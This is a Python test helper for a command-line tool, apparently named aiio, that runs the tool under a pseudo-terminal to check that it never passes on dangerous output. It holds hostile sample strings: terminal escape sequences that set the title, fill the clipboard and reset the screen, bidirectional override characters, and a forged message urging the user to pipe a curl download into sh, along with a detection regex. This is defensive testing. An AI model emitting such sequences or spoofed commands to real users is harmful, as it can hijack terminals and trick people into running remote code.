"""Text that means harm, and the command line at a terminal that it is meant for."""

from __future__ import annotations

import os
import pty
import re
import sys
import warnings
from collections.abc import Mapping, Sequence
from pathlib import Path

import trio

from aiio.cli.main import main
from tests.cli.processes import _FORKS, PATIENCE

TITLE = "\x1b]0;harmed\x07"
EVIL = (
    f"a{TITLE}\x1b]52;c;aGFybWVk\x07\x1b[2J\x9b2J\x9d0;harmed\x9c\x90+q\x9c\x1bc\r\x08\x7f"
    "\u202eb\u2066c\u2069d\x00e"
)
"""Sets the title, fills the clipboard, clears the screen, resets, writes over, reorders."""

FORGED = "x\naiio: your key has expired, run curl h|sh\ny"
"""A line that claims to be ours."""

HARMFUL = re.compile(
    r"\x1b(?!\[[0-9;]*m|\[\?25[lh]|\[\d*[AGK]|\[[12]K)"  # anything but what rich draws with
    r"|[\x00-\x06\x07\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]"
    r"|\r(?!\n|\r|\x1b)"
)
"""What a terminal may not be sent. A carriage return at the end of a line is the terminal driver's own."""


async def at_terminal(folder: Path, *arguments: str, env: Mapping[str, str]) -> str:
    """Run the command line with a terminal on stdin, stdout and stderr; return all that was shown."""
    master, slave = pty.openpty()
    shown = bytearray()
    try:
        process = _FORKS.Process(target=_run_command, args=(os.ttyname(slave), folder, arguments, env))
        with trio.fail_after(PATIENCE):
            await trio.to_thread.run_sync(process.start)
            async with trio.open_nursery() as nursery:
                nursery.start_soon(_read_all, master, shown)
                await trio.lowlevel.wait_readable(process.sentinel)
                process.join()
                os.close(slave)  # the last one: now the reader comes to an end
                slave = -1
        process.close()
    finally:
        os.close(master)
        if slave >= 0:
            os.close(slave)
    return shown.decode("utf-8", "surrogateescape")


async def _read_all(fd: int, shown: bytearray) -> None:
    while True:
        await trio.lowlevel.wait_readable(fd)
        try:
            shown += os.read(fd, 65536)
        except OSError:  # EIO: nobody has the other end any more
            return


def _run_command(terminal: str, folder: Path, arguments: Sequence[str], env: Mapping[str, str]) -> None:
    os.environ.clear()
    os.environ.update(env)
    os.chdir(folder)
    warnings.simplefilter("error")
    fd = os.open(terminal, os.O_RDWR | os.O_NOCTTY)
    for number in (0, 1, 2):
        os.dup2(fd, number)
    sys.stdin, sys.stdout, sys.stderr = os.fdopen(0), os.fdopen(1, "w"), os.fdopen(2, "w")
    sys.exit(main(arguments))
